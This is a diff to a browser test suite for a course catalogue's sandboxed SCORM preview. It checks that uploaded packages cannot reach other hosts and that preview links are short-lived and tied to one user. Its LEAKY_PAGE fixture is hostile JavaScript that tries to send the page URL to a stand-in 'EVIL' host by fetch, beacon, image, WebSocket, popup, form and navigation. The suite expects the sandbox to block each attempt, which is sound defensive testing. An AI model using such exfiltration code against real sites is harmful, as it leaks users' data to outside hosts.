@@ -11,10 +11,15 @@ browser is what is tested here, and the database does not change what it sees.
 
 from __future__ import annotations
 
+import contextlib
 import json
+import threading
+import time
 from collections.abc import Callable, Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
-from typing import Any
+from typing import Any, ClassVar
+from urllib.parse import urlencode
 
 import pytest
 from flask import Flask, render_template_string, request
@@ -26,14 +31,16 @@ from playwright.sync_api import (
     Page,
     expect,
 )
+from playwright.sync_api import TimeoutError as PlaywrightTimeout
 
 from catalogue.models import Role, State
 from catalogue.web.common.pages import public
 from scorm_builder.build import BuildResult
-from tests.catalogue.test_preview import store
+from tests.catalogue.test_preview import KAZAKH_PAGE, store
 from tests.support.axe import serious_violations
 from tests.support.catalogue import PASSWORD, add_resource, add_user
 from tests.support.live_server import live_server
+from tests.support.lms_harness import BROWSER_WAIT_MS
 
 pytestmark = pytest.mark.browser
 
@@ -47,6 +54,14 @@ PAGE = """{% extends "base.html" %}
 {% block content %}
 <h1>{{ title }}</h1>
 {{ preview(preview_url(sha256), title) }}
+{% endblock %}"""
+
+#: Any preview URL in the catalogue's frame: what a copied link would get in a page.
+FRAME = """{% extends "base.html" %}
+{% block title %}frame{% endblock %}
+{% block content %}
+<iframe class="preview-frame" sandbox="allow-scripts allow-forms allow-modals" src="{{ src }}"
+  title="frame"></iframe>
 {% endblock %}"""
 
 HOSTILE_PAGE = """<!DOCTYPE html>
@@ -102,6 +117,8 @@ HOSTILE_PAGE = """<!DOCTYPE html>
 </html>
 """
 
+LETTERS = "Ә, Ғ, Қ, Ң, Ө, Ұ, Ү, Һ, І"
+
 PIXEL = '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>'
 
 HOSTILE_MANIFEST = """<?xml version="1.0" encoding="UTF-8"?>
@@ -123,7 +140,8 @@ HOSTILE_MANIFEST = """<?xml version="1.0" encoding="UTF-8"?>
 @pytest.fixture
 def live(app: Flask) -> Iterator[str]:
     """The catalogue over HTTP, with a test page that embeds a preview:
-    ``/_preview/<sha256>``. Every request is counted in ``app.config["SEEN"]``."""
+    ``/_preview/<sha256>``, and one that frames any URL: ``/_frame?src=``. Every request is
+    counted in ``app.config["SEEN"]`` with whether the session cookie came along."""
     seen: list[tuple[str, bool]] = []
     app.config["SEEN"] = seen
 
@@ -131,10 +149,15 @@ def live(app: Flask) -> Iterator[str]:
     def preview_page(sha256: str) -> str:
         return render_template_string(PAGE, sha256=sha256, title="Ньютон заңдары: алдын ала қарау")
 
+    @public
+    def frame_page() -> str:
+        return render_template_string(FRAME, src=request.args["src"])
+
     def count() -> None:
-        seen.append((request.path, bool(request.cookies)))
+        seen.append((request.path, app.config["SESSION_COOKIE_NAME"] in request.cookies))
 
     app.add_url_rule("/_preview/<sha256>", "preview_page", preview_page)
+    app.add_url_rule("/_frame", "frame_page", frame_page)
     app.before_request(count)
     with live_server(app) as base:
         yield base
@@ -232,15 +255,17 @@ def test_a_hostile_package_gets_nothing_from_the_signed_in_visitor(
         assert page.locator("#pwned").count() == 0
         assert panel.locator("b").count() == 0
 
-        # Opened on its own (a new tab), the preview is just as sandboxed.
+        # Opened on its own (a new tab) it is refused: no parent would keep it home.
         alone = context.new_page()
-        alone.goto(frame_url(page))
-        assert_got_nothing(report_of(alone))
+        answer = alone.goto(frame_url(page))
+        assert answer is not None and answer.status == 403
+        assert alone.locator("#report").count() == 0
         alone.close()
 
         assert [path for path, _ in seen if path.startswith("/api/")] == [], "it reached the API"
         # Only the frame's document, requested by the catalogue page (or the new tab), may
-        # carry the cookie; what the package itself asks for comes from its opaque origin.
+        # carry the session cookie; what the package itself asks for comes from its opaque
+        # origin (with the preview cookie only, which opens previews and nothing else).
         package_requests = [(p, c) for p, c in seen if p.startswith("/preview/")]
         assert any(p.endswith("/pixel.svg") for p, _ in package_requests)
         assert [p for p, c in package_requests if c and not p.endswith("/index.html")] == []
@@ -468,12 +493,15 @@ EXPECTED = {
 def test_the_preview_lms_answers_with_the_standard_codes(app: Flask, live: str, page: Page) -> None:
     page_html = "<!DOCTYPE html><html lang=kk><head><title>Бос</title></head><body></body></html>"
     sha256 = store(app, {"index.html": page_html})
-    with app.test_request_context():
-        from catalogue.web.common.preview import preview_url
-
-        url = preview_url(sha256)
-    page.goto(f"{live}{url}")  # on its own: window.top is the page itself
-    answers = page.evaluate(LMS_SCRIPT)
+    page.goto(f"{live}/_preview/{sha256}")
+    # the calls go to the catalogue page around the frame (window.top)
+    page.evaluate(
+        """() => { window.__calls = [];
+                   window.addEventListener("message", (e) => window.__calls.push(e.data)); }"""
+    )
+    frame = next(f for f in page.frames if "/preview/" in f.url)
+    frame.wait_for_function("window.API_1484_11 !== undefined")
+    answers = frame.evaluate(LMS_SCRIPT)
     name = answers.pop("name")
     assert answers == EXPECTED
     assert name and "," in name  # 1.2 names are "Family, Given"
@@ -490,3 +518,221 @@ def test_the_preview_lms_answers_with_the_standard_codes(app: Flask, live: str, 
         "result": "true",
         "error": "0",
     }
+
+
+# ---- no request leaves the catalogue ------------------------------------------------
+
+#: A package that names another host every way a page can: a popup, a link to a new
+#: window, fetch, an image, a beacon, a WebSocket, a nested frame, a prefetch, a form, and
+#: at last the frame itself navigating there. ``EVIL`` is replaced by that host's URL.
+LEAKY_PAGE = """<!DOCTYPE html>
+<html lang="kk">
+<head><meta charset="utf-8"><title>Сыр шашатын пакет</title>
+<link rel="prefetch" href="EVIL/prefetch"><link rel="dns-prefetch" href="EVIL/">
+<link rel="stylesheet" href="EVIL/style.css"></head>
+<body>
+<form id="form" method="post" action="EVIL/form"><input name="who" value="reviewer"></form>
+<script>
+(async function () {
+  var evil = "EVIL", report = {}, refused = [];  // refused: what this document was refused
+  document.addEventListener("securitypolicyviolation", function (e) {
+    refused.push(e.violatedDirective + " " + e.blockedURI);
+  });
+  try { report.open = window.open(evil + "/open?" + location.href) === null ? "null" : "window"; }
+  catch (e) { report.open = "denied:" + e.name; }
+  var link = document.createElement("a");
+  link.href = evil + "/link"; link.target = "_blank"; document.body.appendChild(link);
+  link.click();
+  try { await fetch(evil + "/fetch?" + location.href, {mode: "no-cors"}); report.fetch = "sent"; }
+  catch (e) { report.fetch = "failed:" + e.name; }
+  report.image = await new Promise(function (resolve) {
+    var image = new Image();
+    image.onload = function () { resolve("loaded"); };
+    image.onerror = function () { resolve("failed"); };
+    image.src = evil + "/pixel.png";
+  });
+  try { report.beacon = String(navigator.sendBeacon(evil + "/beacon", "x")); }
+  catch (e) { report.beacon = "denied:" + e.name; }
+  report.socket = await new Promise(function (resolve) {
+    try {
+      var socket = new WebSocket(evil.replace("http", "ws") + "/socket");
+      socket.onopen = function () { resolve("open"); };
+      socket.onerror = function () { resolve("failed"); };
+    } catch (e) { resolve("denied:" + e.name); }
+  });
+  report.refused = refused;
+  top.postMessage({leaky: report}, "*");
+  var nested = document.createElement("iframe");
+  nested.src = evil + "/frame"; document.body.appendChild(nested);
+  document.getElementById("form").submit();
+  location.href = evil + "/navigate?" + location.href;  // the parent's frame-src refuses it
+})();
+</script>
+</body>
+</html>
+"""
+
+
+#: The catalogue page keeps what the package reports (the frame itself navigates on).
+LISTEN = """window.addEventListener("message", (event) => {
+  if (event.data && event.data.leaky) window.__leaky = event.data.leaky;
+});"""
+
+
+class Recorder(BaseHTTPRequestHandler):
+    """Another host: it records every request that reaches it and answers 200."""
+
+    seen: ClassVar[list[str]] = []
+
+    def do_GET(self) -> None:  # noqa: N802 (http.server's name)
+        Recorder.seen.append(f"GET {self.path}")
+        self.send_response(200)
+        self.send_header("Content-Type", "image/svg+xml")
+        self.end_headers()
+        self.wfile.write(PIXEL.encode())
+
+    def do_POST(self) -> None:  # noqa: N802
+        Recorder.seen.append(f"POST {self.path}")
+        self.send_response(200)
+        self.end_headers()
+
+    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
+        pass
+
+
+@pytest.fixture
+def other_host() -> Iterator[tuple[str, list[str]]]:
+    """A second HTTP server on 127.0.0.1 (another port): its URL and the requests it got."""
+    Recorder.seen = []
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{server.server_port}", Recorder.seen
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+@pytest.mark.parametrize("app", ["sqlite"], indirect=True)
+def test_a_package_reaches_no_other_host(
+    app: Flask, live: str, browser: Browser, other_host: tuple[str, list[str]]
+) -> None:
+    evil, seen = other_host
+    reviewer = add_user(app, "berik@example.kz", Role.REVIEWER, name="Берік", password=True)
+    leaky = LEAKY_PAGE.replace("EVIL", evil)
+    sha256 = store(app, {"imsmanifest.xml": HOSTILE_MANIFEST, "index.html": leaky})
+    context = browser.new_context(locale="kk-KZ")
+    try:
+        page = sign_in(context, live, reviewer.email)
+        popups: list[Page] = []
+        context.on("page", lambda opened: popups.append(opened))
+        page.add_init_script(LISTEN)
+        told: list[str] = []
+        page.on("console", lambda message: told.append(message.text))
+        page.goto(f"{live}/_preview/{sha256}")
+        report = page.wait_for_function("() => window.__leaky").json_value()
+        # Then the nested frame, the form and the frame's own navigation, each refused.
+        if not all_refused(told):
+            with contextlib.suppress(PlaywrightTimeout):
+                page.wait_for_event("console", lambda _: all_refused(told), timeout=BROWSER_WAIT_MS)
+        assert all_refused(told), "\n".join(told)
+        assert report["open"] == "null", report  # no allow-popups: window.open opens nothing
+        assert report["fetch"].startswith("failed:"), report
+        assert report["image"] == "failed", report
+        assert report["socket"] in ("failed", "denied:SecurityError"), report
+        refused = " ".join(report["refused"])
+        for directive in ("connect-src", "img-src", "style-src"):
+            assert directive in refused, report
+        assert popups == []
+        assert seen == [], "the package reached another host"
+        # The control: this browser does reach the other host when a page of its own asks.
+        page.goto(f"{evil}/control")
+        assert seen[0] == "GET /control"
+    finally:
+        context.close()
+
+
+def all_refused(told: list[str]) -> bool:
+    """Chromium has reported refusing the nested frame (the package's own ``frame-src``)
+    and the frame navigating itself away, by the form or by ``location`` (the catalogue
+    page's ``frame-src 'self'``; its report names the other host's origin only)."""
+    text = "\n".join(told)
+    return "frame-src 127.0.0.1" in text and "frame-src 'self'" in text
+
+
+# ---- the link is short-lived and its holder's only ------------------------------------
+
+
+def framed(page: Page, live: str, src: str) -> FrameLocator:
+    page.goto(f"{live}/_frame?{urlencode({'src': src})}")
+    return page.frame_locator("iframe.preview-frame")
+
+
+def expect_refused(app: Flask, frame: FrameLocator) -> None:
+    """The frame shows the catalogue's 403 page, which says to reload for a new link."""
+    from flask_babel import force_locale, gettext
+
+    with app.test_request_context(), force_locale("kk"):
+        reason = gettext("This preview link has expired. Reload the page to get a new one.")
+    expect(frame.locator("p.lead")).to_have_text(reason)
+
+
+def launch_link(page: Page) -> str:
+    src = page.locator("iframe.preview-frame").get_attribute("src")
+    assert src is not None and src.startswith("/preview/")
+    return src
+
+
+def preview_key_of(app: Flask, context: BrowserContext) -> str:
+    jar = context.cookies()
+    name = app.config["SESSION_COOKIE_NAME"]
+    value = next(c["value"] for c in jar if c["name"] == name)
+    serializer = app.session_interface.get_signing_serializer(app)  # type: ignore[attr-defined]
+    key: str = serializer.loads(value)["preview_key"]
+    return key
+
+
+@pytest.mark.parametrize("app", ["sqlite"], indirect=True)
+def test_a_link_works_only_for_its_user_in_its_session_and_for_a_while(
+    app: Flask, live: str, browser: Browser, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from catalogue.web.common.preview import preview_token
+
+    aigerim = add_user(app, "aigerim@example.kz", Role.REVIEWER, name="Әйгерім", password=True)
+    berik = add_user(app, "berik@example.kz", Role.REVIEWER, name="Берік", password=True)
+    sha256 = store(app, {"index.html": KAZAKH_PAGE})
+    hers, his = browser.new_context(locale="kk-KZ"), browser.new_context(locale="kk-KZ")
+    try:
+        page = sign_in(hers, live, aigerim.email)
+        page.goto(f"{live}/_preview/{sha256}")
+        expect(page.frame_locator("iframe.preview-frame").locator("h1")).to_have_text(LETTERS)
+        link = launch_link(page)
+        # The same link in her own page again: it plays (the control for what follows).
+        expect(framed(page, live, link).locator("h1")).to_have_text(LETTERS)
+
+        # Another user, in another browser, gets nothing from her link.
+        other = sign_in(his, live, berik.email)
+        expect_refused(app, framed(other, live, link))
+
+        # A link of hers, made 31 minutes ago, is refused even in her own session.
+        key = preview_key_of(app, hers)
+        long_ago = time.time() - 31 * 60
+        with app.test_request_context():
+            fresh = preview_token(sha256, user_id=aigerim.id, key=key)
+            with monkeypatch.context() as patch:
+                patch.setattr("itsdangerous.timed.time.time", lambda: long_ago)
+                expired = preview_token(sha256, user_id=aigerim.id, key=key)
+        expect(framed(page, live, f"/preview/{fresh}/index.html").locator("h1")).to_have_text(
+            LETTERS
+        )
+        expect_refused(app, framed(page, live, f"/preview/{expired}/index.html"))
+
+        # Signed out, her own link is refused in her own browser.
+        page.goto(f"{live}/")
+        page.locator("form[action$='/logout'] button").first.click()
+        page.wait_for_url(f"{live}/**")
+        expect_refused(app, framed(page, live, link))
+    finally:
+        hers.close()
+        his.close()
